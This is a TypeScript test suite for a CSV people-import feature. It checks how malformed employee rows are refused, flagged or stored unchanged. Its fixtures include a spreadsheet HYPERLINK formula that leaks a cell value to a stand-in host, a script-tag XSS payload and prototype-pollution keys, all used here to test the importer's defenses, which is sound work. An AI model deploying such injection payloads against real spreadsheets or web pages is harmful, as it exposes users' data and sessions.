import type { ImportReport } from '../../../api/contracts/imports.ts';
import { Person } from '../../../api/domain/people/model.ts';
import { emptyDatabase, useDatabase } from '../../support/database.ts';
import { importFile, testFile } from './importFile.ts';

useDatabase();
beforeEach(emptyDatabase);

/** Line of the file, what becomes of it, and the sentence: every row of broken-people.csv. */
const table: [line: number, why: string, becomes: 'fine' | 'note' | 'refused', column?: string, code?: string][] = [
  [2, 'missing-mail', 'refused', 'email', 'mailEmpty'],
  [3, 'duplicate-mail-first', 'fine'],
  [4, 'duplicate-mail-case', 'refused', 'email', 'mailTaken'],
  [5, 'unknown-manager', 'note', 'managerEmail', 'managerUnknown'],
  [6, 'manager-cycle-a', 'note', 'managerEmail', 'managerCycle'],
  [7, 'manager-cycle-b', 'note', 'managerEmail', 'managerCycle'],
  [8, 'self-manager', 'note', 'managerEmail', 'managerSelf'],
  [9, 'unknown-time-zone', 'note', 'timeZone', 'timeZoneUnknown'],
  [10, 'impossible-date', 'note', 'hireDate', 'dateImpossible'],
  [11, 'ambiguous-date', 'note', 'hireDate', 'dateUnclear'],
  [12, 'future-date', 'note', 'hireDate', 'dateTooFar'],
  [13, 'long-name', 'refused', 'name', 'textTooLong'],
  [14, 'formula-hyperlink', 'fine'],
  [15, 'formula-other', 'fine'],
  [16, 'html-script', 'fine'],
  [17, 'rtl-override', 'refused', 'name', 'turnsLetters'],
  [18, 'emoji', 'fine'],
  [19, 'quoted-newline', 'fine'],
  [21, 'extra-column', 'refused', undefined, 'tooManyCells'],
  [22, 'missing-column', 'refused', undefined, 'tooFewCells'],
  [23, 'wrong-delimiter', 'refused', undefined, 'semicolons'],
  [24, 'malformed-mail', 'refused', 'email', 'mailWithoutAt'],
  [25, 'padded-cells', 'note', 'email', 'mailPadded'],
  [26, 'control-characters', 'refused', 'name', 'controlCharacters'],
  [27, 'bad-language-tags', 'note', 'languages', 'languagesMalformed'],
  [28, 'reserved-keys', 'fine'],
  [29, 'duplicate-id', 'refused', 'id', 'idTaken'],
  [30, 'blank-name', 'refused', 'name', 'nameEmpty'],
  [31, 'operator-mail', 'refused', 'email', 'mailWithoutAt'],
  [32, 'unterminated-quote', 'refused', 'name', 'quoteNotClosed'],
];

describe.each(['dry-run', 'apply'] as const)('the 30 rows of broken-people.csv (%s)', (mode) => {
  let report: ImportReport;
  beforeEach(async () => {
    report = await importFile(await testFile('broken-people.csv'), { mode });
  });

  test('every row becomes what the table says, with one finding that names its line and column', () => {
    const rows = report.findings.filter((finding) => finding.line !== null);
    expect(rows.map(({ line, severity, column, code }) => [line, severity, column, code])).toEqual(
      table
        .filter(([, , becomes]) => becomes !== 'fine')
        .map(([line, , becomes, column, code]) => [line, becomes, column ?? null, code]),
    );
  });

  test('17 of 30 come in, 10 of them with a note, and the file is told of its unknown column', () => {
    expect(report).toMatchObject({
      isAccepted: true,
      rows: 30,
      added: 17,
      changed: 0,
      unchanged: 0,
      refused: 13,
      withNote: 10,
      left: 0,
      findingsTotal: 24,
    });
    expect(report.findings[0]).toMatchObject({
      line: null,
      severity: 'note',
      code: 'unknownColumn',
      params: { column: 'why' },
    });
  });

  test('sentences get what they need to say', () => {
    const params = Object.fromEntries(report.findings.map(({ line, params: given }) => [line, given]));
    expect(params[4]).toEqual({ line: 3 });
    expect(params[6]).toEqual({ lines: '6, 7' });
    expect(params[13]).toEqual({ length: 10000, most: 200, column: 'name' });
    expect(params[21]).toEqual({ cells: 13, header: 12, surplus: 'surplus' });
    expect(params[22]).toEqual({ cells: 9, header: 12 });
    expect(params[27]).toEqual({ tags: 'english please; e; x_Y!' });
    expect(params[29]).toEqual({ line: 3 });
    const values = Object.fromEntries(report.findings.map(({ line, value }) => [line, value]));
    expect(values[4]).toBe('Mark1@EXAMPLE.COM');
    expect(values[17]).toBe('Guy trebliG');
    expect(values[32]).toMatch(/^"Pete Male,pete0@example\.com,/);
    expect(values[13]?.length).toBeLessThanOrEqual(60);
  });
});

test('what comes in comes in unchanged, the rest of a noted row too', async () => {
  await importFile(await testFile('broken-people.csv'));
  const people = new Map((await Person.find().lean()).map((person) => [person.mail, person]));
  expect(new Set(people.keys())).toEqual(
    new Set(
      ['mark1', 'margie0', 'rebecca0', 'annik0', 'suchitra0', 'brandon0', 'jose0', 'chris2', 'kim1', 'bryan0', 'james0']
        .concat(['nancy0', 'thomas0', 'eugene1', 'doris0', 'bonnie0', 'denise0'])
        .map((name) => `${name}@example.com`),
    ),
  );
  expect(people.get('thomas0@example.com')?.name).toBe('Jo Brown 👩\u200d🏭 🇺🇸');
  expect(people.get('eugene1@example.com')?.jobTitle).toBe('Production Technician,\n"night" shift');
  expect(people.get('bryan0@example.com')?.name).toBe('=HYPERLINK("https://example.com/?leak="&A1,"Open")');
  expect(people.get('nancy0@example.com')?.name).toBe('<script>alert(document.domain)</script>');
  expect(people.get('denise0@example.com')).toMatchObject({ externalId: '__proto__', name: 'constructor' });
  expect(people.get('doris0@example.com')?.name).toBe('Doris Hartwig');
  expect(people.get('jose0@example.com')).toMatchObject({ hireDate: null, city: 'Seattle' });
  expect(people.get('brandon0@example.com')).toMatchObject({ timeZone: 'Etc/UTC', hireDate: '2009-02-08' });
  for (const mail of ['rebecca0@example.com', 'annik0@example.com', 'suchitra0@example.com', 'margie0@example.com']) {
    expect(people.get(mail)?.managerId).toBeNull();
  }
  expect([...people.values()].filter((person) => person.confirmedAt !== null || person.leftAt !== null)).toEqual([]);
});
